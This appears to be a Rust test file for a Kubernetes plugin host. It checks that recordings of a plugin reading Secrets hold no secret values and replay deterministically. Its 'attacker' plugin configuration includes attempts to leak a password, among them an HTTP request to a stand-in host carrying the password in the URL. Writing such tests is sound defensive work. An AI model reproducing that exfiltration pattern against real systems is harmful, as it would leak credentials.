//! Runs without a cluster: from files, and from a recording of a live plugin that reads Secrets.

use crate::bench::labelled_pod;
use crate::host::bench::{CONFIGURATION_HEAD, HostBench, LINES_DEADLINE, host_fact};
use informant_e2e::host::{Line, run_to_end};
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// The content of the Secret, as text and as in its data.
const PASSWORD: &str = "xyzzy-plugh";
const DATA: &str = "eHl6enktcGx1Z2g=";
/// The credential that the plugin sends.
const TOKEN: &str = "Bearer open-sesame";

/// The program's output, and whether it succeeded.
fn said(bench: &HostBench<'_>, arguments: &[&str]) -> (bool, String) {
    let output = run_to_end(&bench.program, arguments).expect("it runs");
    let text = [output.stdout, output.stderr].concat();
    (output.status.success(), String::from_utf8(text).expect("it is text"))
}

fn shown(path: &Path) -> String {
    path.display().to_string()
}

#[test]
fn a_plugin_is_run_over_files_and_held_against_what_was_kept() {
    host_fact(async |bench| {
        bench.drop_plugin("event-printer", "event-printer");
        let plugin = shown(&bench.plugins.join("event-printer.wasm"));
        let directory = tempfile::tempdir().expect("a directory");
        let place = |name: &str| directory.path().join(name);
        fs::create_dir(place("objects")).expect("a directory");
        let pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nstatus: {phase: Running}\n";
        fs::write(place("objects").join("pod.yaml"), pod).expect("a file");
        let changed = json!({ "apiVersion": "v1", "kind": "Pod", "metadata": { "name": "web", "namespace": "default" }, "status": { "phase": "Failed" } });
        let events = json!({ "resource": "v1/pods", "change": "updated", "object": changed });
        fs::write(place("events.jsonl"), format!("{events}\n")).expect("a file");
        let [objects, events, golden] =
            ["objects", "events.jsonl", "run.golden"].map(|name| shown(&place(name)));
        let run = ["plugin", "test", &plugin, "--objects", &objects, "--events", &events];

        let (success, text) = said(&bench, &run);
        assert!(success && text.contains("updated pod default/web"), "{text}");
        assert_eq!(said(&bench, &run), (true, text.clone()), "each run is the same");
        let kept = ["--golden", &golden];
        let (success, said_of) = said(&bench, &[&run[..], &kept, &["--update"]].concat());
        assert!(success, "{said_of}");
        assert_eq!(fs::read_to_string(&golden).expect("it is written"), text);
        let (success, said_of) = said(&bench, &[&run[..], &kept].concat());
        assert!(success, "{said_of}");
        fs::write(&golden, text.replace("web", "other")).expect("a file");
        let (success, said_of) = said(&bench, &[&run[..], &kept].concat());
        let is_diff = said_of.contains("\n-") && said_of.contains("\n+");
        assert!(!success && is_diff && said_of.contains("--update writes it"), "{said_of}");
    });
}

/// The host's own file: it lets the plugin read Secrets, and says what the plugin does with them.
fn configuration(directory: &Path, namespace: &str) -> PathBuf {
    let secrets = |name: &str, call: &str, of: &str, text: &str| json!({ "name": name, "call": call, "resource": "v1/secrets", "namespace": namespace, "of": of, "text": text });
    let own = |name: &str, call: &str, of: &str, text: &str| json!({ "name": name, "call": call, "of": of, "text": text, "pairs": [["authorization", TOKEN]] });
    let other = json!({ "metadata": { "name": "other" }, "stringData": { "a": PASSWORD } });
    let tries = [
        secrets("get", "get", "login", ""),
        secrets("fields", "fields", "login", "/data/password"),
        secrets("list", "list", "", ""),
        secrets("create", "kube.create", "other", &other.to_string()),
        own("text", "state.set", "a", &format!("the password is {PASSWORD}")),
        own("data", "state.set", "b", DATA),
        own("ask", "http.send", "GET", &format!("https://a.invalid/?password={PASSWORD}")),
    ];
    let plugin = json!({
        "reads": [{ "resources": ["v1/pods", "v1/secrets"] }],
        "config": { "reads": ["v1/secrets"], "tries": tries },
    });
    let file = directory.join("informant.yaml");
    let text = format!(
        "{CONFIGURATION_HEAD}HostConfiguration\nplugins: {}\n",
        json!({ "attacker": plugin })
    );
    fs::write(&file, text).expect("a file");
    file
}

/// Runs a host that records the plugin while the plugin reads and passes on Secrets.
async fn recorded(bench: &mut HostBench<'_>, directory: &Path, own: &str) -> PathBuf {
    let secret = json!({ "apiVersion": "v1", "kind": "Secret", "metadata": { "name": "login" }, "data": { "password": DATA } });
    let secrets = format!("/api/v1/namespaces/{}/secrets", bench.namespace);
    bench.api.create(&secrets, &secret).await.expect(201);
    bench.drop_plugin("attacker", "attacker");
    let records = directory.join("recordings");
    let mut host = bench
        .start(&["--config", own, "--record", &shown(&records), "--record-plugin", "attacker"])
        .await;
    bench.api.create(&bench.pods(), &labelled_pod("attacker", &[])).await.expect(201);
    let last = format!("tried everything on {}/attacker", bench.namespace);
    let done = |line: &Line| line.message() == last;
    host.await_line("everything to be tried", LINES_DEADLINE, done).await.unwrap();
    let answers = host.lines_of("attacker").iter().filter(|it| it.message().contains(DATA)).count();
    assert!(answers >= 3, "it was shown the Secret: {:?}", host.lines_of("attacker"));
    host.terminate(Duration::from_secs(60)).expect("it ends");
    let mut files = fs::read_dir(records).expect("it is there").map(|it| it.expect("an entry"));
    let file = files.next().expect("there is one").path();
    assert!(files.next().is_none());
    file
}

#[test]
fn what_is_recorded_has_nothing_secret_and_is_played_back_the_same_each_time() {
    host_fact(async |mut bench| {
        let directory = tempfile::tempdir().expect("a directory");
        let own = shown(&configuration(directory.path(), &bench.namespace));
        let file = recorded(&mut bench, directory.path(), &own).await;
        let mode = fs::metadata(&file).expect("it is there").permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
        let text = fs::read_to_string(&file).expect("it is text");
        for secret in [PASSWORD, DATA, TOKEN, "open-sesame"] {
            assert!(!text.contains(secret), "{secret} is in\n{text}");
        }
        let lines = text.lines().map(|line| serde_json::from_str::<Value>(line).expect("JSON"));
        let asked: Vec<Value> = lines.filter(|line| line["line"] == "asked").collect();
        for function in [
            "indexer.get",
            "indexer.fields",
            "indexer.list",
            "kube.create",
            "state.set",
            "http.send",
        ] {
            assert!(asked.iter().any(|it| it["function"] == function), "{function} is in\n{text}");
        }

        let plugin = shown(&bench.plugins.join("attacker.wasm"));
        let golden = shown(&directory.path().join("replay.golden"));
        let replay = ["replay", &shown(&file), &plugin, "--config", &own];
        let (success, first) = said(&bench, &replay);
        assert!(success && first.contains("tried get: answered"), "{first}");
        assert!(
            first.contains("UkVEQUNURUQ="),
            "it is told what stands in the Secret's place: {first}"
        );
        assert_eq!(said(&bench, &replay), (true, first.clone()), "each playback is the same");
        let (success, said_of) =
            said(&bench, &[&replay[..], &["--golden", &golden, "--update"]].concat());
        assert!(success, "{said_of}");
        let (success, said_of) = said(&bench, &[&replay[..], &["--golden", &golden]].concat());
        assert!(success && fs::read_to_string(&golden).expect("a file") == first, "{said_of}");
    });
}
